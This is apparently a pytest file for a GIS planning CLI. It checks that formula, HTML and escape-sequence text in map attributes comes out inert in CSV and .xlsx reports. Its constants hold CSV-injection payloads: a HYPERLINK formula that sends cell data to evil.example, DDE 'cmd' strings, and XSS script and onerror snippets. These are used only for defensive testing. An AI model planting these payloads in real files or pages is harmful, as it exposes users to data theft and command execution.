"""Nothing injected: names and notes from the data are shown as text in every output.

Spreadsheets (CSV meant for them, the .xlsx report) never run a cell as a formula.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from gis.cli import cli

DATA = Path(__file__).parent / "data" / "layers"

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击 click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HTML_NAME = "<img src=x onerror=alert(1)><script>alert(2)</script>"
FID = "@PK<img src=x onerror=alert(3)>"
ATTR_NAME = '"><svg onload=alert(4)>公园\x1b]0;t\x07 | [link](http://evil.example) *b* `c`'
ESC = "\x1b[31m红\x1b]0;title\x07工业\x9b2J用地\rX"
NOTE = "=1+2 | <script>alert(5)</script> [link](http://evil.example)\nsecond line"
AGG_NOTE = "<img src=x onerror=alert(6)> & done"
REF = "-row 12"

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _set(layer_dir: Path, name: str, which: str, **props: object) -> None:
    path = layer_dir / f"{name}.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    (feature,) = [f for f in doc["features"] if f["properties"]["fid"] == which]
    for key, value in props.items():
        if key == "geometry_of":
            (other,) = [f for f in doc["features"] if f["properties"]["fid"] == value]
            feature["geometry"] = other["geometry"]
        else:
            feature["properties"][key] = value
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def _set_target(layer_dir: Path, target_id: str, **fields: str) -> None:
    path = layer_dir / "targets.csv"
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    for key, value in fields.items():
        table.loc[table["target_id"] == target_id, key] = value
    table.to_csv(path, index=False)


def hostile(dest: Path) -> Path:
    """A copy of the test layers whose names, notes and a fid are formulas, HTML and escape sequences."""
    shutil.copytree(DATA, dest)
    _set(dest, "parks", "TT-PK-01", name_zh=FORMULA, name_en=HTML_NAME, street=PLUS)
    # a second park on the first (an overlap: a QA finding naming both fids)
    _set(dest, "parks", "TT-PK-02", geometry_of="TT-PK-01", name_zh=ATTR_NAME, name_en=AT, street=MINUS, fid=FID)
    _set(dest, "industrial_land", "TT-IL-02", name_zh=ESC)
    _set_target(dest, "TT-12", note=NOTE, source_ref=REF)
    _set_target(dest, "TT-09", note=AGG_NOTE)
    return dest


@pytest.fixture
def hostile_layers(tmp_path: Path) -> Path:
    return hostile(tmp_path / "layers")


def invoke(*args: object, color: bool = True):
    """Run the CLI as on a terminal (color=True: click strips nothing from what is printed)."""
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False, color=color)


# --- spreadsheets: CSV files ------------------------------------------------------------------


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_neutralised(path: Path, texts: list[str]) -> list[list[str]]:
    """Every row whole; no cell starts like a formula unless it is a number; each of ``texts`` is there, with a '."""
    rows = read_cells(path)
    assert {len(row) for row in rows} == {len(rows[0])}, f"{path.name}: a text cell broke its row"
    cells = [cell for row in rows for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert formulas == [], f"{path.name}: cells a spreadsheet would run as formulas: {formulas}"
    for text in texts:
        assert "'" + text in cells, f"{path.name}: {text!r} is not there as the text '{text}"
    return rows


def test_build_csv_outputs_neutralise_formulas_and_keep_numbers(hostile_layers, tmp_path):
    out = tmp_path / "out"
    result = invoke("build", "--layers", hostile_layers, "--out-dir", out, "--maps-dir", tmp_path / "maps")
    assert result.exit_code == 0, result.output
    rows = assert_neutralised(out / "check.csv", [FORMULA, NOTE, REF])
    header = rows[0]
    deltas = [row[header.index("delta")] for row in rows[1:]]
    assert "-1.000000" in deltas  # TT-03: 4 ha against 5 ha, a negative number left a number
    assert_neutralised(out / "features.csv", [FORMULA, PLUS, MINUS, AT, FID])
    qa = assert_neutralised(out / "qa.csv", [FID])
    assert any(row[qa[0].index("check")] == "overlap" for row in qa[1:])
    # the GeoPackage keeps the text exactly
    import pyogrio

    parks = pyogrio.read_dataframe(out / "planning.gpkg", layer="parks")
    assert set(parks["name_zh"]) == {FORMULA, ATTR_NAME} and FID in set(parks["feature_id"])
    doc = json.loads((out / "check.json").read_text(encoding="utf-8"))
    assert {t["note"] for t in doc["targets"] if t["target_id"] == "TT-12"} == {NOTE}


def test_check_diff_and_zonal_csv_neutralise_formulas(hostile_layers, tmp_path):
    check_csv = tmp_path / "check.csv"
    result = invoke("check", "--layers", hostile_layers, "-f", "csv", "-o", check_csv)
    assert result.exit_code == 1, result.output
    assert_neutralised(check_csv, [FORMULA, NOTE, REF])

    diff_csv = tmp_path / "diff.csv"
    result = invoke("diff", DATA, hostile_layers, "-f", "csv", "-o", diff_csv)
    assert result.exit_code == 0, result.output
    assert_neutralised(diff_csv, [FORMULA, FID])

    tif = tmp_path / "landuse.tif"
    assert invoke("rasterize", "--layers", hostile_layers, "-o", tif).exit_code == 0
    zonal_csv = tmp_path / "zonal.csv"
    result = invoke("zonal", tif, "--layers", hostile_layers, "--layer", "parks", "-f", "csv", "-o", zonal_csv)
    assert result.exit_code == 0, result.output
    assert_neutralised(zonal_csv, [FORMULA, FID])


# --- spreadsheets: the .xlsx report -----------------------------------------------------------


def test_xlsx_report_writes_text_cells_as_text(hostile_layers, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "report.xlsx"
    result = invoke("report", "--layers", hostile_layers, "-o", path)
    assert result.exit_code == 0, result.output  # a name with an escape sequence does not stop it
    wb = load_workbook(path)
    values: dict[str, str] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    values[cell.value] = cell.data_type
    assert FORMULA in values and NOTE in values  # exactly the text, no ' needed in a text cell
    assert any(v.startswith("\\x1b[31m红\\x1b]0;title\\x07工业\\x9b2J用地") for v in values)  # ESC made visible
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if re.search(rb"<f[ >]", z.read(n))]
    # numbers stay numbers
    ws = wb["龙岗区 Longgang"]
    header = [c.value for c in ws[1]]
    deltas = [row[header.index("差值 Delta")] for row in ws.iter_rows(min_row=2)]
    assert any(c.data_type == "n" and c.value == pytest.approx(-1.0, abs=1e-3) for c in deltas)  # TT-03
